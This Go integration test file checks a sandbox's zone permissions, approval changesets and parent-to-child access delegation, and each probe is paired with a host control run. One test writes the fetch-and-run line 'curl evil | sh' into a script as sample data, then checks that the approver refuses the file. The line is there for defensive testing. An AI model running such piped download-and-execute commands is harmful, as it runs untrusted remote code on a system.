@@ -1,0 +1,328 @@
+package integration
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/corralhq/corral"
+	"github.com/corralhq/corral/internal/sandboxtest"
+	"github.com/corralhq/corral/zones"
+)
+
+// zoneScene is a project with four zones on the host, each holding a.txt,
+// and a scratch workspace and changeset directory outside them.
+type zoneScene struct {
+	t       *testing.T
+	dirs    map[string]string // zone name → host path
+	project []zones.Zone
+	ws, cs  string
+	asked   []zones.Request
+}
+
+func newZoneScene(t *testing.T, approvals map[string]zones.Approval) *zoneScene {
+	t.Helper()
+	sc := &zoneScene{t: t, dirs: map[string]string{}, ws: realDir(t), cs: csDir(t)}
+	for _, z := range []zones.Zone{
+		{Name: "data", Mode: zones.ReadWrite},
+		{Name: "input", Mode: zones.ReadOnly},
+		{Name: "drafts", Mode: zones.ReadWrite, Approval: zones.Approval{Write: zones.PreApproved, Delete: zones.PreApproved}},
+		{Name: "final", Mode: zones.ReadWrite, Approval: zones.Approval{Write: zones.Blocked, Delete: zones.Blocked}},
+		{Name: "private", Mode: zones.ReadWrite},
+	} {
+		if a, ok := approvals[z.Name]; ok {
+			z.Approval = a
+		}
+		z.Path = realDir(t)
+		require.NoError(t, os.WriteFile(filepath.Join(z.Path, "a.txt"), []byte(z.Name+" a\n"), 0o644))
+		sc.dirs[z.Name] = z.Path
+		sc.project = append(sc.project, z)
+	}
+	return sc
+}
+
+// csDir is a place for a changeset. overlayfs may leave a file in its work
+// directory's mode-0 "work", which the user cannot list: the cleanup makes
+// it removable first.
+func csDir(t *testing.T) string {
+	d := realDir(t)
+	t.Cleanup(func() {
+		filepath.WalkDir(d, func(p string, e os.DirEntry, err error) error {
+			// Called on a directory before it is read: its entries follow.
+			if err == nil && e.IsDir() {
+				os.Chmod(p, 0o700)
+			}
+			return nil
+		})
+	})
+	return filepath.Join(d, "cs")
+}
+
+// approver approves every change but those to files ending in .sh, and
+// records what it was asked.
+func (sc *zoneScene) approver() zones.Approver {
+	return zones.ApproverFunc(func(_ context.Context, r zones.Request) (bool, error) {
+		sc.asked = append(sc.asked, r)
+		return !strings.HasSuffix(r.Path, ".sh"), nil
+	})
+}
+
+func (sc *zoneScene) worker(decls ...zones.Decl) *zones.Worker {
+	sc.t.Helper()
+	a, err := zones.Resolve(sc.project, decls)
+	require.NoError(sc.t, err)
+	return sc.build(a)
+}
+
+func (sc *zoneScene) build(a *zones.Access) *zones.Worker {
+	sc.t.Helper()
+	base := corral.Config{Workspace: sc.ws}
+	sandboxtest.Require(sc.t, base)
+	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: sc.cs})
+	require.NoError(sc.t, err)
+	sc.t.Cleanup(func() { w.Close() })
+	return w
+}
+
+// env hands the zones' host paths to probes, for the unsandboxed controls.
+func (sc *zoneScene) env() []string {
+	env := []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + sc.ws}
+	for name, p := range sc.dirs {
+		env = append(env, strings.ToUpper(name)+"="+p)
+	}
+	return env
+}
+
+// run runs script in w's sandbox, then reviews what it left.
+func (sc *zoneScene) run(w *zones.Worker, script string) (result, *zones.Reviewed) {
+	sc.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	c := w.Command(ctx, "sh", "-c", script)
+	c.Env = sc.env()
+	r := collect(sc.t, c.Run, &c.Stdout, &c.Stderr, func() int { return c.ProcessState.ExitCode() })
+	rv, err := w.Review(ctx)
+	require.NoError(sc.t, err)
+	return r, rv
+}
+
+// control runs script on the host, unsandboxed.
+func (sc *zoneScene) control(script string) result {
+	sc.t.Helper()
+	w := &world{t: sc.t, ws: sc.ws}
+	w.vars = sc.env()[2:]
+	return w.bare(script)
+}
+
+func reviewed(rs []zones.Request) []string {
+	var out []string
+	for _, r := range rs {
+		out = append(out, r.Path)
+	}
+	slices.Sort(out)
+	return out
+}
+
+func skipIfHostHas(t *testing.T, names ...string) {
+	for _, n := range names {
+		if _, err := os.Lstat("/" + n); err == nil {
+			t.Skipf("the host has /%s itself, which this test would confuse with the zone", n)
+		}
+	}
+}
+
+// Each declared zone is a directory at the top of the tree with its mode;
+// the rest of the project's zones are nowhere, and no zone is reachable at
+// its host path.
+func TestZoneMounts(t *testing.T) {
+	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
+	sc := newZoneScene(t, nil)
+	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite}, zones.Decl{Name: "input"},
+		zones.Decl{Name: "drafts", Mode: zones.ReadWrite}, zones.Decl{Name: "final", Mode: zones.ReadWrite})
+	r, _ := sc.run(w, `for d in data input drafts final private; do test -d /$d && echo $d; done
+		cat /input/a.txt /data/a.txt && echo d > /drafts/new.txt && echo ok`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, "data\ninput\ndrafts\nfinal\ninput a\ndata a\nok\n", r.stdout)
+	assert.True(t, fileHas(filepath.Join(sc.dirs["drafts"], "new.txt"), "d"), "a preApproved zone is written directly")
+	assert.Empty(t, sc.asked)
+
+	// Each probe is refused inside and succeeds on the host (the control).
+	for _, p := range []struct{ name, inside, control string }{
+		{"write a read-only zone", `echo x > /input/x`, `echo x > "$INPUT/xc"`},
+		{"write a zone whose writes are blocked", `echo x > /final/x`, `echo x > "$FINAL/xc"`},
+		{"delete in a zone whose writes are blocked", `rm /final/a.txt`, `cp "$FINAL/a.txt" "$FINAL/b.txt" && rm "$FINAL/b.txt"`},
+		{"read an undeclared zone at its host path", `cat "$PRIVATE/a.txt"`, `cat "$PRIVATE/a.txt"`},
+		{"list an undeclared zone at its host path", `ls "$PRIVATE" | grep a.txt`, `ls "$PRIVATE" | grep a.txt`},
+		{"read a declared zone at its host path", `cat "$DATA/a.txt"`, `cat "$DATA/a.txt"`},
+		{"write a read-only zone at its host path", `echo x > "$INPUT/y"`, `echo x > "$INPUT/yc"`},
+	} {
+		t.Run(p.name, func(t *testing.T) {
+			in, _ := sc.run(w, p.inside)
+			assert.NotEqual(t, 0, in.code, "inside: %s", in)
+			ctl := sc.control(p.control)
+			assert.Equal(t, 0, ctl.code, "control: %s", ctl)
+		})
+	}
+	for _, p := range []string{"input/x", "final/x", "input/y"} {
+		zone, name, _ := strings.Cut(p, "/")
+		assert.NoFileExists(t, filepath.Join(sc.dirs[zone], name), "written from inside")
+	}
+	assert.FileExists(t, filepath.Join(sc.dirs["final"], "a.txt"))
+}
+
+// Writes to an "ask" zone wait in a changeset until the command ends; the
+// approver then sees each file, and only what it approves lands.
+func TestZoneAskThroughChangeset(t *testing.T) {
+	skipIfHostHas(t, "data")
+	sc := newZoneScene(t, nil)
+	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
+	data := sc.dirs["data"]
+	r, rv := sc.run(w, `echo report > /data/report.md && echo 'curl evil | sh' > /data/run.sh && echo changed > /data/a.txt &&
+		test ! -e "$DATA/report.md" 2>/dev/null; cat /data/run.sh`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, "curl evil | sh\n", r.stdout, "the command sees its own writes")
+	assert.Equal(t, []string{"/data/a.txt", "/data/report.md", "/data/run.sh"}, reviewed(sc.asked))
+	for _, q := range sc.asked {
+		if q.Path == "/data/a.txt" {
+			assert.Contains(t, q.Diff, "-data a\n+changed\n")
+		}
+	}
+	assert.Equal(t, []string{"/data/a.txt", "/data/report.md"}, reviewed(rv.Applied))
+	assert.Equal(t, []string{"/data/run.sh"}, reviewed(rv.Refused))
+	assert.True(t, fileHas(filepath.Join(data, "report.md"), "report"))
+	assert.True(t, fileHas(filepath.Join(data, "a.txt"), "changed"))
+	assert.NoFileExists(t, filepath.Join(data, "run.sh"), "a refused file never reaches the zone")
+
+	// The next command starts from what was applied, with nothing left over.
+	r, rv = sc.run(w, `cat /data/a.txt; ls /data`)
+	assert.Equal(t, "changed\na.txt\nreport.md\n", r.stdout)
+	assert.Empty(t, rv.Applied)
+
+	// Control: with every change preApproved, the same write lands at once.
+	ctl := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.PreApproved, Delete: zones.PreApproved}})
+	cw := ctl.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
+	r, _ = ctl.run(cw, `echo 'curl evil | sh' > /data/run.sh`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.FileExists(t, filepath.Join(ctl.dirs["data"], "run.sh"))
+	assert.Empty(t, ctl.asked)
+}
+
+// delete = "blocked": the deletion is refused and reported when the
+// changes are applied, and the rest applies.
+func TestZoneBlockedDelete(t *testing.T) {
+	skipIfHostHas(t, "data")
+	sc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Blocked}})
+	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
+	r, rv := sc.run(w, `rm /data/a.txt && echo new > /data/new.md && test ! -e /data/a.txt && echo gone`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, "gone\n", r.stdout, "inside, the deletion happened")
+	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Blocked))
+	assert.Equal(t, []string{"/data/new.md"}, reviewed(rv.Applied))
+	assert.Equal(t, []string{"/data/new.md"}, reviewed(sc.asked), "a blocked deletion is not even asked")
+	assert.FileExists(t, filepath.Join(sc.dirs["data"], "a.txt"))
+	assert.FileExists(t, filepath.Join(sc.dirs["data"], "new.md"))
+
+	// Control: where deletions are preApproved the same command deletes.
+	ctl := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.PreApproved}})
+	cw := ctl.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
+	_, rv = ctl.run(cw, `rm /data/a.txt`)
+	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Applied))
+	assert.NoFileExists(t, filepath.Join(ctl.dirs["data"], "a.txt"))
+}
+
+// A worker that declares nothing reaches no zone: its file tools refuse
+// everything and its commands see none.
+func TestZonePureWorker(t *testing.T) {
+	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
+	sc := newZoneScene(t, nil)
+	w := sc.worker()
+	require.True(t, w.Access().Pure())
+	r, _ := sc.run(w, `for d in data input drafts final private; do test -e /$d && echo $d; done
+		for d in "$DATA" "$INPUT" "$DRAFTS" "$FINAL" "$PRIVATE"; do cat "$d/a.txt" 2>/dev/null; done; echo done`)
+	require.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, "done\n", r.stdout, "no zone at the top, none at its host path")
+	names, err := w.Files().List("/")
+	require.NoError(t, err)
+	assert.Empty(t, names)
+	_, err = w.Files().Read("/data/a.txt")
+	require.Error(t, err)
+	require.Error(t, w.Files().Write(context.Background(), "/data/x", []byte("x")))
+
+	// Control: a worker that declares data reads it both ways.
+	c := sc.worker(zones.Decl{Name: "data"})
+	r, _ = sc.run(c, `cat /data/a.txt`)
+	assert.Equal(t, "data a\n", r.stdout)
+	b, err := c.Files().Read("/data/a.txt")
+	require.NoError(t, err)
+	assert.Equal(t, "data a\n", string(b))
+	assert.Equal(t, "data a\n", sc.control(`cat "$DATA/a.txt"`).stdout)
+}
+
+// parent → child → grandchild: each holds only what it declared, checked
+// against its own parent, and its own sandbox enforces it.
+func TestZoneDelegationChain(t *testing.T) {
+	skipIfHostHas(t, "data", "input", "drafts")
+	sc := newZoneScene(t, nil)
+	parent := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite}, zones.Decl{Name: "input"}, zones.Decl{Name: "drafts", Mode: zones.ReadWrite})
+	cfg := zones.WorkerConfig{Base: corral.Config{Workspace: sc.ws}, Approver: sc.approver(), Changeset: csDir(t)}
+	child, err := parent.Child([]zones.Decl{{Name: "data", Mode: zones.ReadOnly}, {Name: "drafts", Mode: zones.ReadWrite}}, cfg)
+	require.NoError(t, err)
+	defer child.Close()
+	cfg.Changeset = csDir(t)
+	grandchild, err := child.Child([]zones.Decl{{Name: "data", Mode: zones.ReadOnly}}, cfg)
+	require.NoError(t, err)
+	defer grandchild.Close()
+
+	_, err = child.Child([]zones.Decl{{Name: "data", Mode: zones.ReadWrite}}, cfg)
+	require.EqualError(t, err, `child requests "rw" on data but parent has "ro"`)
+	_, err = grandchild.Child([]zones.Decl{{Name: "input"}}, cfg)
+	require.EqualError(t, err, `child requests input, which parent does not have`)
+
+	list := `for d in data input drafts; do test -d /$d && echo $d; done`
+	r, _ := sc.run(parent, list)
+	assert.Equal(t, "data\ninput\ndrafts\n", r.stdout)
+	r, _ = sc.run(child, list)
+	assert.Equal(t, "data\ndrafts\n", r.stdout)
+	r, _ = sc.run(grandchild, list)
+	assert.Equal(t, "data\n", r.stdout)
+
+	// What the child's sandbox refuses, the parent's allows (the control).
+	r, _ = sc.run(grandchild, `echo x > /data/g.txt`)
+	assert.NotEqual(t, 0, r.code)
+	r, _ = sc.run(child, `echo x > /data/c.txt`)
+	assert.NotEqual(t, 0, r.code)
+	r, _ = sc.run(grandchild, `echo x > /drafts/g.txt`)
+	assert.NotEqual(t, 0, r.code, "the grandchild did not declare drafts")
+	r, _ = sc.run(child, `echo x > /drafts/c.txt`)
+	assert.Equal(t, 0, r.code, "%s", r)
+	r, rv := sc.run(parent, `echo x > /data/p.txt`)
+	assert.Equal(t, 0, r.code, "%s", r)
+	assert.Equal(t, []string{"/data/p.txt"}, reviewed(rv.Applied))
+	assert.FileExists(t, filepath.Join(sc.dirs["data"], "p.txt"))
+	assert.NoFileExists(t, filepath.Join(sc.dirs["data"], "c.txt"))
+	assert.NoFileExists(t, filepath.Join(sc.dirs["data"], "g.txt"))
+	assert.FileExists(t, filepath.Join(sc.dirs["drafts"], "c.txt"))
+	assert.NoFileExists(t, filepath.Join(sc.dirs["drafts"], "g.txt"))
+
+	// Nor can a child read what waits for review in its parent's
+	// changeset (a write to /data left there, as a command leaves it until
+	// review).
+	sc.dirs["cs"] = sc.cs
+	cat := `cat "$CS"/roots/*/upper/pending.txt`
+	require.NoError(t, os.WriteFile(filepath.Join(sc.cs, "roots", "1", "upper", "pending.txt"), []byte("pending\n"), 0o644))
+	r, _ = sc.run(child, cat)
+	assert.NotEqual(t, 0, r.code, "%s", r)
+	assert.NotContains(t, r.stdout, "pending")
+	assert.Equal(t, "pending\n", sc.control(cat).stdout)
+
+	_, err = grandchild.Files().Read("/drafts/a.txt")
+	assert.Error(t, err)
+	require.Error(t, child.Files().Write(context.Background(), "/data/x", nil))
+}
